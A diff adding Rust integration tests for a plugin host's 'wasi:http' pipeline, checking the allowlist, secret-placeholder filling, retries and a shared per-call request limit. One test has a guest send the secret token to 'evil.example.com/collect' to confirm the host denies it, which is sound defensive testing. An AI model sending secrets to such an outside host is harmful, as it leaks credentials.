@@ -1,0 +1,158 @@
+//! `wasi:http`, the second door: a guest's `wasi:http` requests go through
+//! the same pipeline as `http.send` (allowlist, placeholders, retries, the
+//! per-call request limit), and a denial is a code of its own.
+
+use std::time::Duration;
+
+use patchbay::{Host, Limits};
+use patchbay_tests::hostile::Hostile;
+use serde_json::{Value, json};
+
+use crate::pipeline::{TOKEN, builder, connect, probe_plugins};
+
+/// Sends one `wasi:http` request from the probe; `url` is split the way
+/// `wasi:http` wants it.
+async fn wasi_request(conn: &patchbay::Connection, method: &str, url: &str, extra: Value) -> Value {
+    let url = url::Url::parse(url).unwrap();
+    let mut spec = json!({
+        "method": method,
+        "scheme": url.scheme(),
+        "authority": format!("{}:{}", url.host_str().unwrap(), url.port_or_known_default().unwrap()),
+        "path": &url[url::Position::BeforePath..],
+    });
+    spec.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
+    let output = conn
+        .call_json(
+            "actions.execute",
+            &json!({ "name": "wasi-http", "input": spec.to_string() }),
+        )
+        .await
+        .expect("the probe reports, it does not fail");
+    serde_json::from_str(output.as_str().unwrap()).unwrap()
+}
+
+#[tokio::test]
+async fn requests_reach_the_upstream_with_placeholders_filled_after_the_allowlist() {
+    let up = Hostile::start().await.unwrap();
+    let host = builder(true).build().await.unwrap();
+    let conn = connect(&host, &up.url(), None);
+    let sent = wasi_request(
+        &conn,
+        "POST",
+        &format!("{}/echo?q=1", up.url()),
+        json!({
+            "headers": [["authorization", "Bot {{secret.token}}"], ["content-type", "application/json"]],
+            "body": "{\"content\":\"hello\"}",
+        }),
+    )
+    .await;
+    assert_eq!(sent["status"], 200, "{sent}");
+    let echoed: Value = serde_json::from_str(sent["body"].as_str().unwrap()).unwrap();
+    assert_eq!(echoed["method"], "POST");
+    assert_eq!(echoed["uri"], "/echo?q=1");
+    assert_eq!(echoed["headers"]["authorization"], format!("Bot {TOKEN}"));
+    assert_eq!(echoed["body"], "{\"content\":\"hello\"}");
+}
+
+#[tokio::test]
+async fn a_denied_request_is_distinguishable_from_a_network_failure() {
+    let up = Hostile::start().await.unwrap();
+    let host = builder(true).build().await.unwrap();
+    let conn = connect(&host, &up.url(), None);
+
+    let elsewhere = wasi_request(
+        &conn,
+        "GET",
+        "https://evil.example.com/collect",
+        json!({ "headers": [["x-token", "{{secret.token}}"]] }),
+    )
+    .await;
+    assert_eq!(elsewhere["error"], "ErrorCode::HttpRequestDenied", "{elsewhere}");
+
+    // Loopback is refused by the address guard unless private networks are allowed.
+    let guarded = builder(false).build().await.unwrap();
+    let conn = connect(&guarded, &up.url(), None);
+    let loopback = wasi_request(&conn, "GET", &format!("{}/echo", up.url()), json!({})).await;
+    assert_eq!(loopback["error"], "ErrorCode::HttpRequestDenied", "{loopback}");
+    assert_eq!(up.hits("echo"), 0);
+
+    // A port nobody listens on is a network failure, not a denial.
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = closed.local_addr().unwrap().port();
+    drop(closed);
+    let conn = connect(&host, &format!("http://127.0.0.1:{port}"), None);
+    let refused = wasi_request(&conn, "GET", &format!("http://127.0.0.1:{port}/"), json!({})).await;
+    let error = refused["error"].as_str().unwrap_or_default();
+    assert!(
+        !error.is_empty() && error != "ErrorCode::HttpRequestDenied",
+        "{refused}"
+    );
+}
+
+#[tokio::test]
+async fn transient_failures_are_retried_by_the_host() {
+    let up = Hostile::start().await.unwrap();
+    let host = builder(true).build().await.unwrap();
+    let conn = connect(&host, &up.url(), None);
+    let recovered = wasi_request(&conn, "GET", &format!("{}/flaky/w/2/503", up.url()), json!({})).await;
+    assert_eq!(recovered["status"], 200, "{recovered}");
+    assert_eq!(up.hits("flaky/w"), 3, "two 503s, then success");
+
+    let keyed = wasi_request(
+        &conn,
+        "POST",
+        &format!("{}/status/k/503", up.url()),
+        json!({ "headers": [["idempotency-key", "k-1"]] }),
+    )
+    .await;
+    assert_eq!(keyed["status"], 503);
+    assert_eq!(
+        up.hits("status/k"),
+        4,
+        "an Idempotency-Key header makes a POST safe to retry"
+    );
+}
+
+#[tokio::test]
+async fn both_doors_count_against_one_request_limit() {
+    let up = Hostile::start().await.unwrap();
+    let host = Host::builder()
+        .plugins_dir(probe_plugins())
+        .allow_private_network(true)
+        .limits(Limits {
+            pool_instances: 16,
+            max_http_requests_per_call: 1,
+            call_timeout: Duration::from_secs(20),
+            ..Limits::default()
+        })
+        .build()
+        .await
+        .unwrap();
+    let conn = connect(&host, &up.url(), None);
+    let url = url::Url::parse(&up.url()).unwrap();
+    let spec = json!({
+        "wasi": {
+            "scheme": "http",
+            "authority": format!("127.0.0.1:{}", url.port().unwrap()),
+            "path": "/status/l/200",
+        },
+        "contract": { "url": format!("{}/status/m/200", up.url()) },
+    });
+    let output = conn
+        .call_json(
+            "actions.execute",
+            &json!({ "name": "both-doors", "input": spec.to_string() }),
+        )
+        .await
+        .unwrap();
+    let outcomes: Value = serde_json::from_str(output.as_str().unwrap()).unwrap();
+    assert_eq!(outcomes[0]["status"], 200, "{outcomes}");
+    assert_eq!(outcomes[1]["error"], "denied", "{outcomes}");
+    assert!(
+        outcomes[1]["detail"]
+            .as_str()
+            .unwrap()
+            .contains("already sent 1 requests")
+    );
+    assert_eq!(up.hits("status/m"), 0);
+}
